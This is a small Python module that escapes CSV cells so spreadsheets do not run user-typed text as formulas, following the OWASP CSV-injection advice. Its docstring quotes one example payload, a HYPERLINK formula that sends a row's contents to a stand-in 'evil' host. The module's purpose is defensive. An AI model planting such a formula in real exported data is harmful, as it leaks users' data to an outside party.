"""CSV cells that a spreadsheet shows as text: what a person typed (a display name, a comment, a reason) can
start with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return, which spreadsheet tools evaluate as a formula
(``=HYPERLINK("https://evil/?"&A1, "click")`` reads and sends the row). Such a cell is written with a leading
apostrophe, the spreadsheet convention for "this is text" (OWASP CSV injection). Numbers stay numbers."""

from __future__ import annotations

from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def csv_cell(value: Any) -> Any:
    """One CSV cell: ``None`` as empty, text that a spreadsheet would run as a formula prefixed with ``'``."""
    if value is None:
        return ""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value
